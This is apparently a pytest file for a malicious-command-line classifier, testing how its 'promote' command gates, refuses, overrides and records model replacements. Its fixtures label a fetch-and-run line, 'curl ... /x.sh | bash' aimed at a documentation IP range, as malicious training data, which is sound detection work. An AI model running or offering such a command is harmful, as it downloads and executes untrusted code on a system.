"""`cmdclf promote` with its gate, on two small models: one that learnt the task, one that learnt noise."""

from __future__ import annotations

import json
import shutil

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from cmdclf.cli import main

MALICIOUS = "curl -s http://198.51.100.{n}/x.sh | bash"
BENIGN = "grep -rn timeout{n} /etc/nginx"


@pytest.fixture(scope="module")
def noise_dir(make_model):
    return make_model(np.arange(120) // 2 % 2, name="noise", provenance={"sources": {"labelled:from-benign": 60}})


def write(path, *, rows=40, labels=("benign", "malicious"), **more):
    texts = {"benign": BENIGN, "malicious": MALICIOUS}
    table = pa.Table.from_pylist(
        [
            {"command_line": texts[label].format(n=n), "platform": "linux", "label": label, "group_id": f"{label}{n}"}
            for n in range(rows)
            for label in labels
        ]
    )
    for name, values in more.items():
        table = table.append_column(name, pa.array(values(table)))
    pq.write_table(table, path)
    return path


@pytest.fixture
def incident(tmp_path):
    return write(tmp_path / "incident.parquet", source=lambda t: [f"from-{x}" for x in t["label"].to_pylist()])


def promote(candidate, *arguments):
    return main(["promote", str(candidate), *map(str, arguments), "--bootstrap", "100"])


def test_a_better_model_is_promoted_and_the_comparison_is_recorded_beside_it(
    model_dir, noise_dir, incident, tmp_path, capsys
):
    live = tmp_path / "live"
    assert main(["promote", str(noise_dir), "--to", str(live)]) == 0
    first = json.loads((tmp_path / "live.promotion.json").read_text())
    assert (first["gate"], first["replaced"], first["comparison"]) == ("not asked", None, None)
    late = write(tmp_path / "late.parquet", rows=1000, labels=("benign",))
    arguments = ["--against", "--test", incident, "--time-split", late, "--to", live, "--json", tmp_path / "c.json"]
    assert promote(model_dir, *arguments) == 0
    out = capsys.readouterr().out
    assert "acceptable: small@" in out
    assert [
        line.split()[-1] for line in out.splitlines() if line.split()[:3] == ["incident.parquet", "all", "AUC"]
    ] == ["better"]
    record = json.loads((tmp_path / "live.promotion.json").read_text())
    assert record["gate"] == "acceptable"
    assert record["replaced"].startswith("noise@")
    assert record["comparison"] == json.loads((tmp_path / "c.json").read_text())
    assert json.loads((live / "manifest.json").read_text())["name"] == "small"
    assert json.loads((tmp_path / "live.previous.promotion.json").read_text()) == first
    assert not list(tmp_path.glob("*.part"))


def test_a_worse_model_is_refused_with_exit_code_3_and_its_reasons(model_dir, noise_dir, incident, tmp_path, capsys):
    live = tmp_path / "live"
    assert main(["promote", str(model_dir), "--to", str(live)]) == 0
    before = (tmp_path / "live.promotion.json").read_bytes()
    arguments = ["--against", model_dir, "--test", incident, "--json", tmp_path / "c.json", "--to", live]
    assert promote(noise_dir, *arguments) == 3
    out, err = capsys.readouterr()
    assert "worse: incident.parquet, AUC: 1.0000 becomes 0." in out
    assert "refused: noise@" in out
    assert "incident.parquet, all, TPR at FPR 0.01: needs at least 1,000 benign rows, has 40" in out
    assert "the candidate was trained on lines of source from-benign too" in err
    assert json.loads((live / "manifest.json").read_text())["name"] == "small"
    assert (tmp_path / "live.promotion.json").read_bytes() == before
    content = json.loads((tmp_path / "c.json").read_text())
    assert content["verdict"] == "refused"
    assert content["reasons"][0].startswith("incident.parquet, AUC")
    assert len(content["warnings"]) == 1


def test_a_refused_model_is_promoted_with_a_reason_that_is_recorded(model_dir, noise_dir, incident, tmp_path, capsys):
    live = tmp_path / "live"
    reason = "the other one leaks \udcff"
    arguments = ["--against", model_dir, "--test", incident, "--to", live, "--even-if-worse", reason]
    assert promote(noise_dir, *arguments) == 0
    assert "promoted nevertheless: the other one leaks" in capsys.readouterr().out
    record = json.loads((tmp_path / "live.promotion.json").read_text())
    assert (record["gate"], record["even_if_worse"]) == ("refused", reason)
    assert record["comparison"]["reasons"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["incident.parquet", "live", "live.promotion.json"]


def test_without_a_target_models_are_compared_only_and_a_model_equals_itself(model_dir, incident, tmp_path, capsys):
    assert promote(model_dir, "--against", model_dir, "--test", incident, "--margin-auc", 0) == 0
    out, err = capsys.readouterr()
    assert "both models are the same" in err
    assert out.splitlines()[1].split()[-2:] == ["no", "worse"]
    assert [p.name for p in tmp_path.iterdir()] == ["incident.parquet"]


def test_the_model_that_stands_in_the_target_must_be_the_one_compared_with(
    model_dir, noise_dir, incident, tmp_path, capsys
):
    assert main(["promote", str(noise_dir), "--to", str(tmp_path / "live")]) == 0
    assert promote(model_dir, "--against", model_dir, "--test", incident, "--to", tmp_path / "live") == 0
    assert "stands there, which is not the model that the candidate is compared with" in capsys.readouterr().err


def test_a_studys_own_tests_are_read_and_dual_use_and_hard_lines_are_known(model_dir, tmp_path):
    path = write(
        tmp_path / "t.parquet",
        rows=50,
        benign_group=lambda t: ["hard" if x == "benign" else None for x in t["label"].to_pylist()],
        dual_use=lambda t: [k < 4 for k in range(t.num_rows)],
    )
    table = pq.read_table(path)
    numbers = pa.array([int(x == "malicious") for x in table["label"].to_pylist()], pa.int8())
    table = table.set_column(2, "label", numbers).rename_columns({"group_id": "group"})
    pq.write_table(table, path)
    assert promote(model_dir, "--against", model_dir, "--test", path, "--json", tmp_path / "c.json") == 0
    content = json.loads((tmp_path / "c.json").read_text())
    test = content["tests"][0]
    assert (test["benign"], test["malicious"], test["groups"], test["dual_use_left_out"]) == (50, 48, 98, 2)
    assert [c["benign"] for c in content["comparisons"] if c["rows"] == "hard benign"] == [50, 50]


def test_lines_without_a_group_are_grouped_by_their_masked_text(model_dir, tmp_path, capsys):
    path = write(tmp_path / "t.parquet", group=lambda t: [None] * t.num_rows)
    pq.write_table(pq.read_table(path).drop_columns(["group_id"]), path)
    assert promote(model_dir, "--against", model_dir, "--test", path) == 3
    assert "no incident test is large enough to judge by" in capsys.readouterr().out


def test_lines_of_the_training_set_are_warned_about(model_dir, incident, capsys):
    from cmdclf.classify import Scorer
    from cmdclf.classify.neighbours import NEIGHBOUR_ROWS, Neighbours
    from cmdclf.cli._gate import _known_lines, read_gate_tests

    (file,) = read_gate_tests([incident], None)
    scorer = Scorer.load(model_dir)
    assert _known_lines(file, scorer, "the candidate") is None
    row = {
        "command_line": MALICIOUS.format(n=250),
        "platform": "linux",
        "label": "malicious",
        "source": "s",
        "technique": [],
    }
    scorer.neighbours = Neighbours(pa.Table.from_pylist([row], NEIGHBOUR_ROWS), np.ones((1, 3), np.float32))
    said = _known_lines(file, scorer, "the candidate")
    assert said.startswith("40 of 80 lines are lines that the candidate was trained on")
    assert said in capsys.readouterr().err


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        ([], "there is nothing to do"),
        (["--test", "t"], "--test needs --against"),
        (["--to", "live", "--json", "c", "--even-if-worse", "x"], "--json, --even-if-worse needs --against"),
        (["--against", "m"], "there is no incident test"),
        (["--against", "--test", "t"], "--against names no model"),
        (["--against", "--test", "t", "--to", "live"], "no model stands here"),
        (["--against", "m", "--test", "t", "--even-if-worse", "x"], "promotes nothing"),
        (["--against", "m", "--test", "t", "--to", "live", "--even-if-worse", " "], "gives no reason"),
        (["--against", "m", "--test", "t", "--bootstrap", "99"], "--bootstrap is 99"),
        (["--against", "m", "--test", "t", "--test", "./t"], "given twice"),
        (["--against", "m", "--test", "t"], "there is no such file"),
    ],
)
def test_arguments_that_make_no_comparison_are_explained(model_dir, arguments, message, capsys, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    assert main(["promote", str(model_dir), *arguments]) == 2
    assert message in capsys.readouterr().err
    assert not list(tmp_path.iterdir())


@pytest.mark.parametrize("option", ["tpr=-0.1", "auc=nan", "alerts=2", "tpr=x", "slices=0.5", "slices=inf"])
def test_a_margin_is_a_number_from_0_to_1_and_its_factor_at_least_1(model_dir, option, capsys):
    with pytest.raises(SystemExit) as end:
        promote(model_dir, "--against", model_dir, "--test", "t", f"--margin-{option}")
    assert end.value.code == 2
    assert "is no number from " in capsys.readouterr().err


def test_a_test_of_one_class_is_named_with_exit_code_2(model_dir, incident, tmp_path, capsys):
    for label, lacks in (("benign", "malicious"), ("malicious", "benign")):
        path = write(tmp_path / f"{label}.parquet", labels=(label,))
        assert promote(model_dir, "--against", model_dir, "--test", path) == 2
        error = capsys.readouterr().err
        assert f"{label}.parquet: no row is {lacks}" in error
    assert promote(model_dir, "--against", model_dir, "--test", incident, "--time-split", path) == 2
    assert "malicious.parquet: no row is benign" in capsys.readouterr().err


def test_a_damaged_model_is_named_and_nothing_is_promoted(model_dir, incident, tmp_path, capsys):
    broken = tmp_path / "broken"
    shutil.copytree(model_dir, broken)
    (broken / "classifier.onnx").write_bytes(b"")
    for candidate, current in ((broken, model_dir), (model_dir, broken)):
        assert promote(candidate, "--against", current, "--test", incident, "--to", tmp_path / "live") == 2
        assert "classifier.onnx: it was changed" in capsys.readouterr().err
    assert not (tmp_path / "live").exists()


def test_a_model_that_changed_since_it_was_compared_is_not_promoted(model_dir, noise_dir, tmp_path):
    from cmdclf.classify import promote_recorded
    from cmdclf.errors import ModelIntegrityError

    seal = (model_dir / "manifest.sha256").read_text()
    with pytest.raises(ModelIntegrityError, match="another model stands here"):
        promote_recorded(noise_dir, tmp_path / "live", {}, seal=seal)
    assert not list(tmp_path.iterdir())
